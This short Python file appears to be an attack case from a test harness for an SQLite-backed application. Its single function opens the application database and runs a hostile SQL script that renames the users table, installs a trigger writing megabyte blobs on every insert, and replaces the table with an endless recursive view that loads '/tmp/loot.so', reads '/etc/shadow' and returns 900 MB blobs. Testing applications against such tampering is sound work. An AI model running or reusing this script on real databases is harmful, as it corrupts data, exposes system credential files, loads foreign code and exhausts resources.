import sqlite3

from kit import *

path = os.environ["DATABASE_PATH"]


def attack():
    def change():
        connection = sqlite3.connect(path, timeout=0.1)
        connection.executescript("""
            PRAGMA writable_schema = on;
            CREATE TABLE IF NOT EXISTS loot (text);
            CREATE TRIGGER IF NOT EXISTS spy AFTER INSERT ON users BEGIN
              INSERT INTO loot SELECT randomblob(1000000) FROM users a, users b; END;
            ALTER TABLE users RENAME TO real_users;
            CREATE VIEW users AS WITH RECURSIVE n(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM n)
              SELECT id, load_extension('/tmp/loot.so') AS name, readfile('/etc/shadow') AS bio, zeroblob(900000000) AS photo FROM n;
            """)
        connection.commit()

    later(change)
    attempted()
